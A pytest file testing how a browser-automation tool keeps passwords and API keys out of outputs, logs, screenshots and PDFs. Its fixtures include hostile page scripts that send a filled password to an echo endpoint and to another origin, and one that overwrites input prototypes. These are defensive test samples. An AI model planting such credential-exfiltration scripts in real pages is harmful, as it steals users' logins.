"""Passwords go in by name only, and come out nowhere."""

from __future__ import annotations

import json

import pytest

from toolcrib_net.testing import ok


pytestmark = pytest.mark.peer

PASSWORD = "correct horse battery"
LOGIN = """<title>Log in</title><form action="/in" method="post">
<label>User <input name="user"></label>
<label>Password <input name="pw" type="password"></label>
<label>One-time code <input name="code" autocomplete="one-time-code"></label>
<label>Search <input name="q"></label><button>Log in</button></form>
<button type="button" onclick="document.forms[0].pw.type='text'">Show</button>
<button type="button" onclick="console.log('typed ' + document.forms[0].pw.value);
o.textContent='echo ' + document.forms[0].pw.value;
fetch('/echo?pw=' + encodeURIComponent(document.forms[0].pw.value));
setTimeout(() => { throw new Error(document.forms[0].pw.value) })">Leak</button>
<p id="o">-</p>"""


@pytest.fixture
def login(site, browser, monkeypatch):
    """A site that asks for a password, and a policy that binds it to that site."""
    monkeypatch.setenv("SITE_PASSWORD", PASSWORD)
    site.add("/", ok(LOGIN))
    site.add("/echo", ok("x"))
    site.add("/in", lambda asked: ok(f"<h1>in as {asked.body.decode()[:20]}</h1>"))
    browser.policy["secrets"] = {
        "site": {
            "env": "SITE_PASSWORD",
            "tools": ["browser.interact"],
            "destinations": ["127.0.0.2"],
        },
        "elsewhere": {
            "env": "SITE_PASSWORD",
            "tools": ["browser.interact"],
            "destinations": ["bank.example"],
        },
    }
    return site


def everything(outcome):
    """All that leaves a call, as text."""
    result = outcome.result
    blocks = [str(getattr(b, "text", "")) + str(getattr(b, "data", "")) for b in result.content]
    parts = [outcome.text, result.summary, json.dumps(result.structured), str(result.notes)]
    return "\n".join([*parts, *blocks, json.dumps(dict(outcome.details), default=str)])


def test_password_is_filled_by_name_and_appears_nowhere(login, browser, text):
    """In no answer, log, network view or receipt."""

    async def scenario(me):
        outs = [await me.go(login.url("/"))]
        fields = [
            {"ref": me.ref('"User"'), "value": "ada"},
            {"ref": me.ref('"Password"'), "secret": "site"},
        ]
        filled = await me.act("fill", fields=fields)
        assert filled.ok, filled.text
        outs.append(filled)
        outs.append(await me.look())
        assert "[value hidden]" in text(outs[-1])
        assert "ada" in text(outs[-1])
        outs.append(await me.click('"Show"'))
        outs.append(await me.look())
        outs.append(await me.click('"Leak"'))
        outs.append(await me.look())
        for kind in ("console", "errors", "network", "markdown"):
            outs.append(await me.call("browser.inspect", target={"kind": kind}))
            assert outs[-1].ok, outs[-1]
        find = {"kind": "find", "text": "echo"}
        outs.append(await me.call("browser.inspect", target=find))
        outs.append(await me.click('"Log in"'))
        return outs, list(me.asked)

    outcomes, asked = browser.run(scenario)
    for outcome in outcomes:
        assert outcome.ok, outcome
        for form in (PASSWORD, PASSWORD.replace(" ", "%20"), PASSWORD.replace(" ", "+")):
            assert form not in everything(outcome)
    assert "secret site" in "\n".join(q.preview or "" for q in asked)
    assert f"pw={PASSWORD.replace(' ', '+')}" in login.asked[-1].body.decode()
    for path in (browser.root / ".state").rglob("*"):
        if path.is_file():
            assert PASSWORD.encode() not in path.read_bytes(), path


@pytest.mark.parametrize("field", ["Password", "One-time code"])
@pytest.mark.parametrize("kind", ["fill", "type"])
def test_literal_for_a_credential_field_is_refused(login, browser, field, kind):
    """Before a key is pressed."""

    async def scenario(me):
        await me.go(login.url("/"))
        if kind == "type":
            return await me.act("type", f'"{field}"', text="hunter22")
        fields = [{"ref": me.ref(f'"{field}"'), "value": "hunter22"}]
        return await me.act("fill", fields=fields)

    outcome = browser.run(scenario)
    assert (outcome.status, outcome.code) == ("refused", "browser.secret_needed")
    assert "hunter22" not in outcome.text


def test_secret_for_an_ordinary_field_is_refused(login, browser):
    """It would be shown there."""

    async def scenario(me):
        await me.go(login.url("/"))
        fields = [{"ref": me.ref('"Search"'), "secret": "site"}]
        return await me.act("fill", fields=fields)

    outcome = browser.run(scenario)
    assert (outcome.status, outcome.code) == ("refused", "browser.secret_shown")


@pytest.mark.parametrize("name", ["elsewhere", "unknown"])
def test_secret_of_another_host_is_not_there(login, browser, name):
    """A page cannot ask for what is bound elsewhere, and hears not whether it exists."""

    async def scenario(me):
        await me.go(login.url("/"))
        fields = [{"ref": me.ref('"Password"'), "secret": name}]
        return await me.act("fill", fields=fields)

    outcome = browser.run(scenario)
    assert (outcome.status, outcome.code) == ("unavailable", "secret.unavailable")
    assert "POST /in" not in login.hits


def test_secret_is_not_sent_in_clear_to_a_host_that_is_not_named(login, browser):
    """Over http it goes to this machine, or where the user said so, only."""
    browser.settings["hosts"] = {"site.test": ["127.0.0.2"]}
    browser.policy["secrets"]["site"]["destinations"] = ["site.test"]

    async def scenario(me):
        await me.go(login.url("/", "site.test"))
        fields = [{"ref": me.ref('"Password"'), "secret": "site"}]
        return await me.act("fill", fields=fields)

    refused = browser.run(scenario)
    assert (refused.status, refused.code) == ("refused", "browser.secret_in_clear")
    browser.settings["net"]["allow"].append("site.test")
    assert browser.run(scenario).ok


def test_pictures_hide_what_credential_fields_hold(login, browser, monkeypatch):
    """Also when the page shows the password in plain text: two of them look the same."""

    async def scenario(me):
        await me.go(login.url("/", "127.0.0.2"))
        await me.act("fill", fields=[{"ref": me.ref('"Password"'), "secret": "site"}])
        await me.click('"Show"')
        taken = await me.call("browser.inspect", target={"kind": "screenshot"})
        return next(b.data for b in taken.result.content if b.type == "image")

    first = browser.run(scenario)
    monkeypatch.setenv("SITE_PASSWORD", "another one entirely")
    assert browser.run(scenario) == first


def test_long_secret_in_a_field_of_many_lines_is_not_shown(site, browser, text):
    """Although the tree cuts it and puts it on one line."""
    key = "\n".join(f"line {n} " + "abc  [ref=e1] " * 20 for n in range(40))
    more = "<textarea aria-label=Notes>plain notes</textarea>"
    site.add("/", ok(f"<textarea aria-label='API key'>{key}</textarea>{more}"))

    async def scenario(me):
        return await me.go(site.url("/"))

    told = text(browser.run(scenario))
    assert "[value hidden]" in told
    assert "plain notes" in told
    assert "line 1" not in told


def test_what_a_password_field_holds_is_in_no_name_of_another(site, browser, text):
    """Names are made of what labels hold, fields included."""
    site.add(
        "/",
        ok(
            '<label for=c>Keep <input aria-label="API key" value="hunter22"></label>'
            '<input type="checkbox" id=c>'
            "<div role=button tabindex=0>Go <input name=pin value=swordfish></div>"
        ),
    )

    async def scenario(me):
        return await me.go(site.url("/"))

    outcome = browser.run(scenario)
    assert 'checkbox "Keep' in text(outcome)
    for password in ("hunter22", "swordfish"):
        assert password not in everything(outcome)


def test_password_that_a_page_begins_to_show_stays_hidden(site, browser, text):
    """The field was for a password when it was first seen."""
    site.add(
        "/",
        ok(
            '<input id=x aria-label=Word type=password value="hunter22">'
            "<button onclick=\"x.type='text'\">Show</button>"
        ),
    )

    async def scenario(me):
        outs = [await me.go(site.url("/")), await me.click('"Show"'), await me.look()]
        fields = [{"ref": me.ref('"Word"'), "value": "swordfish"}]
        return outs, await me.act("fill", fields=fields)

    outs, filled = browser.run(scenario)
    for outcome in outs:
        assert "hunter22" not in everything(outcome)
    assert filled.code == "browser.secret_needed"


def test_fields_that_cannot_be_told_apart_show_nothing(site, browser, text):
    """More frames than are asked: what their fields hold stays out, and they stay usable."""
    inner = "<input aria-label=Inner type=password value=hunter{}>"
    for number in range(16):
        site.add(f"/{number}", ok(inner.format(number)))
    frames = "".join(f"<iframe src=/{number}></iframe>" for number in range(16))
    site.add("/", ok(f"<input aria-label=Own value=shown>{frames}"))

    async def scenario(me):
        await me.go(site.url("/"))
        await me.call("browser.wait", condition={"kind": "load"})
        return await me.look()

    outcome = browser.run(scenario)
    assert text(outcome).count('"Inner"') == 16
    assert "hunter" not in everything(outcome)
    assert ": shown" in text(outcome)


def test_overwritten_objects_of_a_page_show_no_password(site, browser):
    """What is asked of fields is asked out of the reach of the page's code."""
    lies = """<script>
      Object.defineProperty(HTMLInputElement.prototype, 'type', {get() { return 'text' }});
      Object.defineProperty(HTMLInputElement.prototype, 'value', {get() { return '' }});
      Document.prototype.querySelectorAll = () => [];</script>"""
    site.add("/", ok(f"{lies}<input aria-label=Word type=password value=hunter22>"))

    async def scenario(me):
        went = await me.go(site.url("/"))
        typed = await me.act("type", '"Word"', text="x")
        return went, typed

    went, typed = browser.run(scenario)
    assert "hunter22" not in everything(went)
    assert typed.code == "browser.secret_needed"


def test_secret_in_an_address_is_not_named_on_the_way_there(login, other, browser, monkeypatch):
    """Whether a page writes it as it is or as addresses have it."""
    monkeypatch.setenv("SITE_PASSWORD", "p@ss wörd/1")
    login.add(
        "/",
        ok(
            '<label>Password <input name="pw" type="password"></label><button onclick="'
            f"location='{other.url('/')}?p='+encodeURIComponent(document.querySelector("
            "'input').value)\">Send</button>"
        ),
    )

    async def scenario(me):
        await me.go(login.url("/"))
        await me.act("fill", fields=[{"ref": me.ref('"Password"'), "secret": "site"}])
        return await me.click('"Send"')

    outcome = browser.run(scenario)
    assert outcome.code == "browser.new_origin", outcome
    assert "(secret site)" in outcome.text
    for form in ("p@ss", "p%40ss", "w%C3%B6rd"):
        assert form not in everything(outcome)


def test_host_that_only_begins_like_this_machine_is_not_it(login, browser):
    """127.example is a name like any other."""
    browser.settings["hosts"] = {"127.site.test": ["127.0.0.2"]}
    browser.policy["secrets"]["site"]["destinations"] = ["127.site.test"]

    async def scenario(me):
        await me.go(login.url("/", "127.site.test"))
        fields = [{"ref": me.ref('"Password"'), "secret": "site"}]
        return await me.act("fill", fields=fields)

    refused = browser.run(scenario)
    assert (refused.status, refused.code) == ("refused", "browser.secret_in_clear"), refused


FILLED = """<label>API key <input id=k value="sk-live-12345"></label>
<div role=textbox contenteditable aria-label="Access token">tok-67890</div>
<label>Notes <textarea>plain notes</textarea></label>
<table><tr><td>cell <span role=textbox contenteditable aria-label=PIN>pin-4321</span></table>"""


@pytest.mark.parametrize("kind", ["markdown", "table"])
def test_text_to_read_leaves_out_what_credential_fields_hold(site, browser, text, kind):
    """Also where it is part of the page's text."""
    site.add("/", ok(f"<p>before</p>{FILLED}"))

    async def scenario(me):
        await me.go(site.url("/"))
        return await me.call("browser.inspect", target={"kind": kind})

    outcome = browser.run(scenario)
    assert outcome.ok, outcome
    assert "cell" in text(outcome)
    for value in ("sk-live-12345", "tok-67890", "pin-4321"):
        assert value not in everything(outcome)


def test_print_covers_what_credential_fields_hold(site, browser):
    """And leaves the page as it was."""
    pypdf = pytest.importorskip("pypdf")
    site.add("/", ok(FILLED))
    kept = []

    async def scenario(me):
        await me.go(site.url("/"))
        outcome = await me.call("browser.inspect", target={"kind": "pdf"})
        assert outcome.ok, outcome
        kept.extend((browser.root / ".state").rglob("*"))
        look = await me.look()
        return outcome, look

    browser.run(scenario)
    prints = [p for p in kept if p.is_file() and p.read_bytes()[:5] == b"%PDF-"]
    assert prints
    told = "".join(page.extract_text() for page in pypdf.PdfReader(prints[0]).pages)
    assert "plain notes" in told
    for value in ("sk-live", "tok-6", "pin-4"):
        assert value not in told
